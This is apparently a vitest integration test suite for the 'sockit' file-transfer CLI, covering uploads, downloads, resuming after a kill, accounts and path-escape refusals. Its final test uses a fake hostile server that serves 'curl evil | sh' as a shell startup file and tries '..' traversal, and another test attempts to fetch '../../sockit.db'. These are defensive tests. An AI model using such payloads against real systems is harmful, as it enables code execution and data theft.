/**
 * `sockit files` and `sockit users` as a user runs them: the built CLI against a server it
 * started, accounts in the embedded SQLite database. Includes the 1 GiB upload and download
 * killed half way and resumed.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { createReadStream, existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ExitStatus } from '../../src/cli/exit-status.js';
import { FAKE_PASSWORD, fakeServer } from '../files/fake-server.js';
import { CLI, type Server, sockit, startServer } from '../helpers.js';

// No key cache: a refused password must be refused, not replaced by keys kept from earlier tests.
const env = { ...process.env, SOCKIT_PASSWORD: 'a long pass phrase', SOCKIT_KEY_CACHE: 'off' };
const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

function shaOfFile(file: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const hash = createHash('sha256');
    createReadStream(file, { highWaterMark: 1024 * 1024 })
      .on('data', (d) => hash.update(d))
      .on('end', () => resolve(hash.digest('hex')))
      .on('error', reject);
  });
}

async function sizeOf(dir: string, suffix: string): Promise<number> {
  let total = 0;
  for (const name of await readdir(dir).catch(() => [] as string[])) {
    if (name.endsWith(suffix)) total += (await stat(path.join(dir, name))).size;
  }
  return total;
}

/** Starts `sockit ARGS` and SIGKILLs it once `ready()` holds; resolves when it is gone. */
async function killWhen(args: string[], ready: () => Promise<boolean>): Promise<void> {
  const child: ChildProcess = spawn(process.execPath, [CLI, ...args], { env, stdio: 'ignore' });
  const gone = new Promise((resolve) => child.on('exit', resolve));
  for (;;) {
    if (child.exitCode !== null) throw new Error(`${args.join(' ')} ended before it could be killed`);
    if (await ready()) break;
    await new Promise((r) => setTimeout(r, 20));
  }
  child.kill('SIGKILL');
  await gone;
}

describe('sockit files against a server that stops sending mid-download', () => {
  it('fails after --stall-timeout with ERR_IDLE_TIMEOUT, keeping the part to resume', async () => {
    const frozen = await fakeServer(
      (request, peer) => {
        if (request.op === 'stat')
          peer.send({ ok: true, entry: { path: 'f.bin', type: 'file', size: 50_000, mtime: 0 } });
        else if (request.op === 'get') {
          peer.send({ ok: true, size: 50_000, from: 0, mtime: 0 });
          peer.raw(randomBytes(5_000));
        }
      },
      { neverClose: true },
    );
    const dir = await mkdtemp(path.join(tmpdir(), 'sockit-files-stall-'));
    try {
      const local = path.join(dir, 'f.bin');
      const r = await sockit(
        [
          'files',
          'download',
          `127.0.0.1:${frozen.port}`,
          'f.bin',
          local,
          '--user',
          'ann',
          '--stall-timeout',
          '0.5',
        ],
        { env: { ...env, SOCKIT_PASSWORD: FAKE_PASSWORD, SOCKIT_DATA_DIR: dir }, timeoutMs: 15_000 },
      );
      expect(r.signal).toBeNull();
      expect(r.code).toBe(ExitStatus.NETWORK);
      expect(r.stderr).toMatch(/^sockit: [^\n]*\[ERR_IDLE_TIMEOUT\]\n$/);
      expect(existsSync(local)).toBe(false);
      expect((await stat(`${local}.sockit-part`)).size).toBe(5_000);
    } finally {
      await frozen.close();
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('sockit files against a server that never closes its side', () => {
  it('ends the command once its work is done, and after a refusal, without waiting for the server', async () => {
    const silent = await fakeServer(
      (request, peer) => {
        if (request.op === 'list')
          peer.send(
            { ok: true, count: 1 },
            Buffer.from(JSON.stringify([{ path: 'a', type: 'file', size: 1, mtime: 0 }])),
          );
        else peer.send({ ok: false, code: 'ERR_NOT_FOUND', message: 'no such file' });
      },
      { neverClose: true },
    );
    try {
      const where = `127.0.0.1:${silent.port}`;
      const fake = { env: { ...env, SOCKIT_PASSWORD: FAKE_PASSWORD }, timeoutMs: 15_000 };
      const ls = await sockit(['files', 'ls', where, '--user', 'ann'], fake);
      expect(ls.signal).toBeNull();
      expect(ls.code).toBe(0);
      expect(ls.stdout.toString()).toMatch(/\ba\b/);
      const rm = await sockit(['files', 'rm', where, 'x', '--user', 'ann'], fake);
      expect(rm.signal).toBeNull();
      expect(rm.code).toBe(ExitStatus.NOT_FOUND);
      expect(rm.stderr).toMatch(/\[ERR_NOT_FOUND\]\n$/);
    } finally {
      await silent.close();
    }
  });
});

describe('sockit files', () => {
  let dir: string;
  let dataDir: string;
  let server: Server;
  let target: string;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'sockit-files-cli-'));
    dataDir = path.join(dir, 'data');
    const added = await sockit(['users', 'add', 'ann', '--data-dir', dataDir, '--iterations', '4096'], {
      env,
    });
    expect(added.stderr).toBe(`database: SQLite file ${path.join(dataDir, 'sockit.db')}\n`);
    expect(added.code).toBe(0);
    server = await startServer(
      [
        'files',
        'serve',
        '--data-dir',
        dataDir,
        '--host',
        '127.0.0.1',
        '--port',
        '0',
        '--min-iterations',
        '4096',
        '--allow-register',
      ],
      1,
    );
    target = `127.0.0.1:${server.listening[0]?.port}`;
  });

  afterAll(async () => {
    await server?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('uploads a folder tree, lists it as JSON, downloads it back identical, removes it', async () => {
    const tree = path.join(dir, 'photos');
    await mkdir(path.join(tree, '2026', 'nov'), { recursive: true });
    const files: Record<string, Buffer> = {
      'a.jpg': randomBytes(300_000),
      '2026/b.jpg': randomBytes(5),
      '2026/nov/c.raw': randomBytes(2_000_000),
    };
    for (const [name, bytes] of Object.entries(files)) await writeFile(path.join(tree, name), bytes);
    const up = await sockit(['files', 'upload', target, tree, '--user', 'ann', '--to', 'backup'], { env });
    expect(up.code, up.stderr).toBe(0);
    expect(up.stderr).toMatch(/uploaded backup\/photos\/2026\/nov\/c\.raw: 1\.9 MiB/);

    const ls = await sockit(['files', 'ls', target, 'backup', '-R', '--json', '--user', 'ann'], { env });
    expect(ls.code, ls.stderr).toBe(0);
    const entries = JSON.parse(ls.stdout.toString()) as { path: string; type: string; size: number }[];
    expect(entries.map((e) => `${e.type} ${e.path} ${e.size}`)).toEqual([
      'dir photos 0',
      'dir photos/2026 0',
      'file photos/2026/b.jpg 5',
      'dir photos/2026/nov 0',
      'file photos/2026/nov/c.raw 2000000',
      'file photos/a.jpg 300000',
    ]);

    const back = path.join(dir, 'restored');
    const down = await sockit(['files', 'download', target, 'backup/photos', back, '--user', 'ann'], { env });
    expect(down.code, down.stderr).toBe(0);
    for (const [name, bytes] of Object.entries(files)) {
      expect(sha(await readFile(path.join(back, name))), name).toBe(sha(bytes));
    }

    // Into an existing folder, like cp: under the remote name.
    // a.jpg is there already from the folder download: replaced only with --overwrite.
    const refused = await sockit(
      ['files', 'download', target, 'backup/photos/a.jpg', back, '--user', 'ann'],
      {
        env,
      },
    );
    expect(refused.code).toBe(ExitStatus.REFUSED);
    expect(refused.stderr).toMatch(/^sockit: .* \[ERR_EXISTS\]\n$/);
    const into = await sockit(
      ['files', 'download', target, 'backup/photos/a.jpg', back, '--user', 'ann', '--overwrite'],
      { env },
    );
    expect(into.code, into.stderr).toBe(0);
    expect(sha(await readFile(path.join(back, 'a.jpg')))).toBe(sha(files['a.jpg'] as Buffer));

    const rmTree = await sockit(['files', 'rm', target, 'backup', '-r', '--user', 'ann'], { env });
    expect(rmTree.code, rmTree.stderr).toBe(0);
    const after = await sockit(['files', 'ls', target, '--json', '--user', 'ann'], { env });
    expect(JSON.parse(after.stdout.toString())).toEqual([]);
  });

  it('prints one line with the code for a refused log-in, and for path escapes', async () => {
    const wrong = await sockit(['files', 'ls', target, '--user', 'ann'], {
      env: { ...env, SOCKIT_PASSWORD: 'not it' },
    });
    expect(wrong.code).toBe(ExitStatus.AUTH);
    expect(wrong.stderr).toBe('sockit: invalid username or password [ERR_AUTH_FAILED]\n');
    const local = path.join(dir, 'x.txt');
    await writeFile(local, 'x');
    const attempts = [
      ['ls', target, '..'],
      ['mkdir', target, '../evil'],
      ['rm', target, '../ann', '-r'],
      ['upload', target, local, '--to', '../elsewhere'],
      ['upload', target, local, '--to', '/tmp'],
      ['download', target, '../../sockit.db', path.join(dir, 'stolen')],
    ];
    for (const args of attempts) {
      const r = await sockit(['files', ...args, '--user', 'ann'], { env });
      expect(r.code, args.join(' ')).toBe(ExitStatus.AUTH);
      expect(r.stderr, args.join(' ')).toMatch(/\[ERR_PATH_DENIED\]\n$/);
    }
    expect(existsSync(path.join(dir, 'stolen'))).toBe(false);
    expect(existsSync(path.join(dataDir, 'files', 'evil'))).toBe(false);
  });

  it('registers an account over the network when the server allows it', async () => {
    const r = await sockit(['files', 'register', target, '--user', 'dan', '--iterations', '4096'], { env });
    expect(r.code, r.stderr).toBe(0);
    const ls = await sockit(['files', 'ls', target, '--user', 'dan'], { env });
    expect(ls.code, ls.stderr).toBe(0);
  });

  it('refuses out-of-range iterations on the command line, before connecting', async () => {
    for (const n of ['1000', '20000000']) {
      const r = await sockit(['files', 'register', target, '--user', 'eve', '--iterations', n], { env });
      expect(r.code, n).not.toBe(0);
      expect(r.stderr, n).toContain('4096 to 10000000');
    }
    const ls = await sockit(['files', 'ls', target, '--user', 'eve'], { env });
    expect(ls.stderr).toContain('ERR_AUTH_FAILED');
  });

  it('resumes a 1 GiB upload killed half way; no half file is ever visible', async () => {
    const size = 1024 * 1024 * 1024;
    const big = path.join(dir, 'big.bin');
    const handle = await import('node:fs/promises').then((fs) => fs.open(big, 'w'));
    for (let done = 0; done < size; done += 16 * 1024 * 1024)
      await handle.write(randomBytes(16 * 1024 * 1024));
    await handle.close();
    const expected = await shaOfFile(big);
    const parts = path.join(dataDir, 'files', '.parts', 'ann');
    const home = path.join(dataDir, 'files', 'ann');
    await killWhen(['files', 'upload', target, big, '--user', 'ann'], async () => {
      expect(existsSync(path.join(home, 'big.bin'))).toBe(false);
      return (await sizeOf(parts, '.part')) >= size / 2;
    });
    await new Promise((r) => setTimeout(r, 300));
    const kept = await sizeOf(parts, '.part');
    expect(kept).toBeGreaterThanOrEqual(size / 2);
    expect(kept).toBeLessThan(size);
    expect(existsSync(path.join(home, 'big.bin'))).toBe(false);
    const listed = await sockit(['files', 'ls', target, '--json', '--user', 'ann'], { env });
    expect(JSON.parse(listed.stdout.toString()).map((e: { path: string }) => e.path)).not.toContain(
      'big.bin',
    );

    const again = await sockit(['files', 'upload', target, big, '--user', 'ann'], {
      env,
      timeoutMs: 120_000,
    });
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toMatch(/resumed at/);
    expect(await shaOfFile(path.join(home, 'big.bin'))).toBe(expected);
    expect(await sizeOf(parts, '.part')).toBe(0);

    // And back down: killed half way, resumed from big.bin.sockit-part.
    const dest = path.join(dir, 'big-down.bin');
    await killWhen(['files', 'download', target, 'big.bin', dest, '--user', 'ann'], async () => {
      const part = await stat(`${dest}.sockit-part`).catch(() => undefined);
      return (part?.size ?? 0) >= size / 2;
    });
    expect(existsSync(dest)).toBe(false);
    const down = await sockit(['files', 'download', target, 'big.bin', dest, '--user', 'ann'], {
      env,
      timeoutMs: 120_000,
    });
    expect(down.code, down.stderr).toBe(0);
    expect(down.stderr).toMatch(/resumed at/);
    expect(await shaOfFile(dest)).toBe(expected);
    expect(existsSync(`${dest}.sockit-part`)).toBe(false);
    await rm(big);
    await rm(dest);
  }, 300_000);

  it("a hostile server's '..' and .bashrc write nothing outside; a reset is one line with a code", async () => {
    const home = path.join(dir, 'victim');
    const downloads = path.join(home, 'downloads');
    await mkdir(downloads, { recursive: true });
    await writeFile(path.join(home, '.bashrc'), 'mine');
    const evil = Buffer.from('curl evil | sh\n');
    const hostile = await fakeServer((request, peer) => {
      if (request.op === 'stat' && request.path === 'report.pdf')
        peer.send({ ok: true, entry: { path: '.bash_profile', type: 'file', size: evil.length, mtime: 0 } });
      else if (request.op === 'stat')
        peer.send({ ok: true, entry: { path: '..', type: 'dir', size: 0, mtime: 0 } });
      else if (request.op === 'list')
        peer.send(
          { ok: true, count: 1 },
          Buffer.from(JSON.stringify([{ path: '.bashrc', type: 'file', size: evil.length, mtime: 0 }])),
        );
      else if (request.op === 'get') {
        peer.send({ ok: true, size: evil.length, from: 0, mtime: 0 });
        peer.raw(evil);
        peer.send({ ok: true, sha256: sha(evil) });
      } else if (request.op === 'rm') peer.reset();
    });
    try {
      const where = `127.0.0.1:${hostile.port}`;
      const fake = { env: { ...env, SOCKIT_PASSWORD: FAKE_PASSWORD } };
      // Into an existing folder: the name comes from the server's stat answer.
      const down = await sockit(['files', 'download', where, 'photos', downloads, '--user', 'ann'], fake);
      expect(down.code).toBe(ExitStatus.REFUSED);
      expect(down.stderr).toMatch(/^sockit: [^\n]* \[ERR_BAD_REQUEST\]\n$/);
      expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('mine');
      expect(await readdir(home)).toEqual(['.bashrc', 'downloads']);
      expect(await readdir(downloads)).toEqual([]);

      // The local name is the user's: a stat answer naming another file is refused, nothing written.
      const named = await sockit(['files', 'download', where, 'report.pdf', home, '--user', 'ann'], fake);
      expect(named.code).toBe(ExitStatus.REFUSED);
      expect(named.stderr).toMatch(/^sockit: [^\n]* \[ERR_BAD_REQUEST\]\n$/);
      expect(await readdir(home)).toEqual(['.bashrc', 'downloads']);

      const reset = await sockit(['files', 'rm', where, 'x', '--user', 'ann'], fake);
      expect(reset.code).toBe(ExitStatus.NETWORK);
      expect(reset.stderr).toMatch(/^sockit: [^\n]* \[ERR_CONNECTION_CLOSED\]\n$/);
    } finally {
      await hostile.close();
    }
  });
});
